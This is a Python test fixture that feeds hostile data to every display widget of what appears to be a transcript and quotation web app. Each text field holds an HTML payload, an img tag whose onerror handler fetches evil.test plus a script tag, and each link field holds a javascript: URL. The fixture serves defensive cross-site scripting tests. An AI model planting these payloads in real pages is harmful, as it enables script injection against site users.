"""For each widget that draws, what the server may hand it when a source is hostile."""

from typing import Any

EVIL = "<img src=https://evil.test/i onerror=\"fetch('https://evil.test/')\"><b>1</b><script>1</script>"
LINK = "javascript:fetch('https://evil.test/')"
SPEAKER = {"speaker": EVIL, "role": EVIL, "label": EVIL}
SEGMENT = {"text": EVIL, "kinds": ["cited"], "start": 0}
CARD = SPEAKER | {
    "key": "k",
    "source": EVIL,
    "asked": EVIL,
    "rank": 1,
    "strength": EVIL,
    "date": EVIL,
    "person": LINK,
    "facts": [EVIL, EVIL],
    "quote": [SEGMENT],
    "context": EVIL,
    "notes": EVIL,
    "also": [{"label": EVIL, "link": LINK}],
    "question": {"asker": EVIL, "text": EVIL, "folded": EVIL},
    "why": EVIL,
    "details": [EVIL],
    "verification": "changed",
    "verified": EVIL,
    "link": LINK,
    "original": LINK,
    "copied": [EVIL, EVIL],
}
LEAF = SPEAKER | {
    "key": "k",
    "standing": "changed",
    "facts": [EVIL],
    "quote": EVIL,
    "context": EVIL,
    "asked": EVIL,
    "asker": EVIL,
    "search": EVIL,
    "state": EVIL,
    "moved": LINK,
    "note": "",
    "link": LINK,
    "person": LINK,
    "original": LINK,
    "archive": LINK,
    "details": [EVIL],
}
PARAGRAPH = {"start": 0, "end": 100, "link": LINK, "pieces": [SEGMENT]}
TURN = SPEAKER | {
    "kind": "speech",
    "heading": EVIL,
    "tint": 20,
    "link": LINK,
    "notes": [EVIL],
    "person": LINK,
    "paragraphs": [PARAGRAPH],
    "answers": {"turn": 0, "asker": EVIL, "text": EVIL},
    "exchange": 0,
}
PAGE = {
    "source": EVIL,
    "question": EVIL,
    "turns": [TURN],
    "margin": {"0": {"text": EVIL, "page": 1, "address": LINK}},
}
HIT = {"rank": 1, "relevant": True, "speaker": EVIL, "quote": EVIL, "where": EVIL, "link": LINK}
SIDE = {"title": EVIL, "hits": [HIT, HIT | {"rank": 2}]}
ASKED = {"id": "1", "question": EVIL, "history": [EVIL], "outcome": EVIL, "facts": [EVIL]}
FIELD = {"key": "title", "label": EVIL, "value": EVIL, "hint": EVIL, "max": 200}
LABEL = {
    "label": EVIL,
    "name": EVIL,
    "role": EVIL,
    "facts": [EVIL],
    "sample": EVIL,
    "canBeNamed": True,
    "isWritten": True,
}
CORRECTION = {
    "title": EVIL,
    "people": {EVIL: {"name": EVIL, "role": EVIL}},
    "turns": {"7": {"name": EVIL, "role": EVIL}},
    "styles": [],
    "ignored": [EVIL],
    "added": [],
}
FIGURE = {"text": EVIL, "note": EVIL, "tone": "worse"}
LINE = {"name": EVIL, "cells": [FIGURE], "facts": [EVIL], "link": LINK}
SHELF = {
    "title": EVIL,
    "facts": [EVIL],
    "link": LINK,
    "amounts": [EVIL],
    "snippet": EVIL,
    "more": 2,
}
WORD = {"word": EVIL, "amount": EVIL, "label": EVIL, "link": LINK}
PAGE_LINK = {"label": EVIL, "icon": EVIL, "link": LINK, "current": True}
COUNT = {"name": EVIL, "times": EVIL, "share": EVIL, "link": LINK, "label": EVIL}
CONCORDANCE_LINE = SPEAKER | {
    "left": EVIL,
    "quote": EVIL,
    "right": EVIL,
    "person": LINK,
    "date": EVIL,
    "occasion": EVIL,
    "link": LINK,
    "key": "k",
    "verification": "changed",
    "verified": EVIL,
}
PROMISE = SPEAKER | {
    "person": LINK,
    "promiser": EVIL,
    "grade": EVIL,
    "date": EVIL,
    "occasion": EVIL,
    "quote": [SEGMENT],
    "amount": EVIL,
    "deadline": EVIL,
    "context": EVIL,
    "notes": EVIL,
    "source": EVIL,
    "key": "k",
    "link": LINK,
    "copied": EVIL,
    "verification": "changed",
    "verified": EVIL,
}
EXCERPT = {
    "key": "k",
    "speaker": EVIL,
    "person": LINK,
    "role": EVIL,
    "date": EVIL,
    "period": EVIL,
    "strength": EVIL,
    "sentence": EVIL,
    "notes": EVIL,
    "occasion": [EVIL, EVIL],
    "question": {"asker": EVIL, "text": EVIL, "folded": EVIL},
    "copied": [EVIL, EVIL],
    "quote": [SEGMENT],
    "source": EVIL,
    "asked": EVIL,
    "facts": [EVIL],
    "why": EVIL,
    "link": LINK,
    "verification": "changed",
    "verified": EVIL,
}
COLUMN = {
    "title": EVIL,
    "link": LINK,
    "person": EVIL,
    "notes": EVIL,
    "silence": EVIL,
    "reason": EVIL,
    "excerpts": [EXCERPT],
}
DOT = {"first": 0, "last": 1, "at": 0.5, "row": 0, "key": "k", "strength": EVIL, "label": EVIL}
ANSWER = {
    "sentence": EVIL,
    "notes": EVIL,
    "strength": EVIL,
    "date": EVIL,
    "reference": EVIL,
    "link": LINK,
}
HOSTILE: dict[str, Any] = {
    "answers": {
        "label": EVIL,
        "speakers": [{"name": EVIL, "link": LINK}] * 2,
        "rows": [
            {
                "question": EVIL,
                "link": LINK,
                "cells": [ANSWER, {"silence": EVIL, "reason": EVIL}],
            }
        ],
    },
    "excerpts": {
        "columns": [COLUMN],
        "near": EVIL,
        "strip": {"rows": 1, "ticks": [{"label": EVIL, "at": 0.5}], "dots": [DOT]},
        "collected": ["k"],
    },
    "active_filters": [{"name": EVIL, "value": EVIL}, {"name": EVIL, "value": EVIL}],
    "navigation": {
        "bar": [PAGE_LINK],
        "more": [PAGE_LINK],
        "manage": [PAGE_LINK],
        "manage_title": EVIL,
    },
    "sections": {
        "sections": [
            {
                "title": EVIL,
                "note": EVIL,
                "people": [SPEAKER | {"person": LINK}],
                "quotes": [
                    SPEAKER
                    | {"text": EVIL, "link": LINK, "person": LINK, "facts": [EVIL]}
                    | {"origin": [EVIL, LINK]},
                ],
                "links": [[EVIL, LINK]],
            },
        ],
        "words": [WORD],
        "method": EVIL,
    },
    "counts": {"title": EVIL, "first": [COUNT], "rest": [COUNT], "more": EVIL},
    "commitment_list": {"cards": [PROMISE], "collected": ["k"]},
    "lines": {"lines": [CONCORDANCE_LINE], "collected": ["k"]},
    "month_chart": {
        "title": EVIL,
        "highest": EVIL,
        "rows": [
            {"name": EVIL, "link": LINK, "bars": [{"share": 1, "pale": 0.5, "label": EVIL}]},
        ],
        "ticks": [{"at": EVIL, "text": EVIL}],
        "notes": [EVIL],
        "table": {"title": EVIL, "columns": [EVIL, EVIL], "rows": [[EVIL, EVIL]]},
    },
    "item_list": {
        "heading": EVIL,
        "applied": 0,
        "editable": True,
        "maxNote": 100,
        "notes": {"k": EVIL},
        "leaves": [LEAF],
    },
    "form": {
        "id": "1",
        "file": EVIL,
        "state": "read",
        "stateWords": EVIL,
        "error": EVIL,
        "preview": {
            "facts": [{"name": EVIL, "value": EVIL, "note": EVIL, "is_missing": False}],
            "doubts": [EVIL],
            "unread": [{"label": EVIL, "lines": 2, "text": EVIL}],
            "faults": {"title": EVIL},
            "open": True,
            "correction": CORRECTION,
            "fields": [FIELD],
            "labels": [LABEL, LABEL | {"label": "second"}],
            "turns": [{"label": EVIL, "line": 7, "name": EVIL, "sample": EVIL}],
            "more": 2,
            "styles": [
                {"style": "colon", "words": EVIL, "facts": [EVIL], "example": EVIL, "isUsed": True}
            ],
            "max": 200,
        },
    },
    "figures": {
        "label": EVIL,
        "columns": [EVIL, EVIL],
        "rows": [LINE | {"action": {"text": EVIL, "link": LINK}}],
        "folded": True,
    },
    "earlier_questions": [{"text": EVIL, "is_open": True}],
    "findings": {
        "cards": [CARD],
        "collected": ["k"],
        "judged": {"k": True},
        "strip": True,
        "labels": {"k": EVIL},
    },
    "saved_questions": [
        {"question": EVIL, "limits": EVIL, "news": EVIL, "isNew": True, "link": LINK}
    ],
    "headings": {"text": EVIL, "link": LINK},
    "history": [{"name": EVIL, "link": LINK, "current": True}],
    "notices": {"tone": "error", "title": EVIL, "lines": [EVIL]},
    "original": {
        "file": EVIL,
        "page": 1,
        "last": 2,
        "png": None,
        "frames": [{"left": EVIL, "top": EVIL, "width": EVIL, "height": EVIL}],
        "problem": EVIL,
    },
    "masthead": {
        "title": EVIL,
        "facts": [EVIL],
        "address": LINK,
        "voices": EVIL,
        "speakers": [{"name": EVIL, "link": LINK, "turns": [0, 2]}],
        "details": [[EVIL, EVIL]],
        "state": EVIL,
        "holds": False,
        "beside": True,
    },
    "pack_list": {
        "packs": [{"number": 0, "name": EVIL, "size": EVIL, "tags": [EVIL], "current": False}],
        "tags": [EVIL],
        "full": EVIL,
        "blank": False,
    },
    "pack_tools": {"link": LINK},
    "portrait": {
        "name": EVIL,
        "also": [EVIL],
        "amounts": [EVIL],
        "roles": [{"title": EVIL, "time": EVIL}],
    },
    "rankings": {"questions": [ASKED | {"gold": [HIT], "sides": [SIDE, SIDE]}], "shown": 1},
    "reader": {
        "page": PAGE,
        "stops": [{"kind": "cited", "start": 0, "end": 9, "key": "k"}],
        "links": [LINK],
        "place": "",
        "words": EVIL,
        "pages": {"stops": [1], "open_page": 1},
        "collected": [],
        "kept": [[0, 9]],
    },
    "selection": {
        "reply": {"number": 1, "told": EVIL, "copied": EVIL, "link": LINK},
        "maxNote": 100,
    },
    "replies": {"text": EVIL, "in_view": False},
    "transcript_list": [SHELF | {"speakers": [SPEAKER | {"person": LINK}]}],
    "folded_table": {"title": EVIL, "columns": [EVIL, EVIL], "rows": [[EVIL, EVIL]]},
    "understanding_chips": {"chips": [{"label": EVIL, "kept": True}]},
    "keys": [{"names": [EVIL], "effect": EVIL, "action": "press", "selector": "a", "within": ""}],
    "links": [{"text": EVIL, "link": LINK}],
}
"""Name of the script -> its data, all of whose words and links are hostile."""
